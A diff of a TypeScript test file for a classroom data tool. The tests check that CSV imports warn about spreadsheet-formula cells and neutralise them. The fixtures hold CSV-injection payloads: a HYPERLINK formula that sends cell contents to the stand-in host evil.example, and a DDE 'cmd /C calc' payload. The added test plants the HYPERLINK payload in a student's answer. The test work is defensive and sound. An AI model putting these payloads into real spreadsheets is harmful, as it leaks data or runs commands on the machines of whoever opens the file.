@@ -1,13 +1,13 @@
 // Spreadsheet safety (OWASP CSV injection, peers.md §3.3): CSVs written for people neutralise cells
 // a spreadsheet would run as formulas; the tool's own source files keep every value as typed.
-import { readFileSync, writeFileSync } from 'node:fs';
+import { copyFileSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
 import { csvText, formulaLikeCells, formulaWarnings, isFormulaLike, parseCsvText } from '../../src/store/csv.ts';
 import { observationsText, parseObservations } from '../../src/store/observations-store.ts';
 import { parseRoster, rosterText } from '../../src/store/roster-store.ts';
-import { copyExample, run } from '../helpers.ts';
+import { copyExample, DOWNLOADS, run } from '../helpers.ts';
 
 /** The fixture set peers.md asks for. */
 export const TRIGGERS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-x', '@SUM(A1:A9)', '\tx', '\rx', '\nx', '\0x', '=1+1', '-2+3'];
@@ -89,6 +89,27 @@ describe('an import warns about formula-like cells and keeps them as typed', () 
     const roster = readFileSync(join(dir, 'roster.csv'), 'utf8');
     expect(roster).toContain('S029,"=HYPERLINK(""http://evil.example"",""x"")",Reyes,');
     expect(roster).toContain('S030,Ana,@Lopez,');
+  });
+});
+
+describe('pathbook import notes formula-like answers once, and the responses round-trip', () => {
+  it('a student typed =HYPERLINK(…) as an answer', async () => {
+    const dir = copyExample();
+    const downloads = join(dir, '..', 'downloads');
+    mkdirSync(downloads);
+    const src = readFileSync(join(DOWNLOADS, 'Exit ticket 11-20 (Responses).csv'), 'utf8');
+    const evil = '=HYPERLINK(""http://evil.example/?""&A1,""click"")';
+    writeFileSync(join(downloads, 'Exit ticket 11-20 (Responses).csv'), src.replace('"liam.obrien@students.example.org","2 / 4","4:3"', `"liam.obrien@students.example.org","2 / 4","${evil}"`));
+    copyFileSync(join(DOWNLOADS, 'Exit ticket 11-20.map.yaml'), join(downloads, 'Exit ticket 11-20.map.yaml'));
+    const r = await run(['import', join(downloads, 'Exit ticket 11-20 (Responses).csv')], { cwd: dir });
+    expect(r.code, r.stderr).toBe(0);
+    expect(r.stderr).toMatch(/note: 1 cell in .*Exit ticket 11-20 \(Responses\).csv starts like a spreadsheet formula \(first: line 3, Q1\. Which ratio is equivalent to 3:4\?: "=HYPERLINK/);
+    // Kept (neutralised) in the responses file, and read back as the student typed it.
+    const responses = readFileSync(join(dir, 'assessments', '2026-11-20-ratios-exit.responses.csv'), 'utf8');
+    expect(responses).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
+    const { parseResponses } = await import('../../src/store/responses-store.ts');
+    const back = parseResponses(new TextEncoder().encode(responses), 'x.csv');
+    expect(Object.values(back.get('S005')!)).toContain('=HYPERLINK("http://evil.example/?"&A1,"click")');
   });
 });
 
